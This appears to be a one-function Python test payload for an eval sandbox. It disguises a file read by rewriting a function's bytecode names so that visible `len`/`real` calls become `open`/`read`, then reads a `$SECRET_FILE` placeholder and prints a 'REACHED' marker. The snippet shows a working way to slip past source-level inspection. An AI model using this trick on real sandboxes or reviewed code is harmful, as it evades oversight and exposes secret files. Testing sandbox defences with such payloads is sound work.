# attack: a lambda's code, its names replaced: the text says `len`, the function calls `open`
# family: eval
def read(path):
    return len(path).real()
read.__code__ = read.__code__.replace(co_names=tuple({"len": "open", "real": "read"}.get(name, name) for name in read.__code__.co_names))
print("REACHED", read.__code__.co_names)
print(read("$SECRET_FILE"))
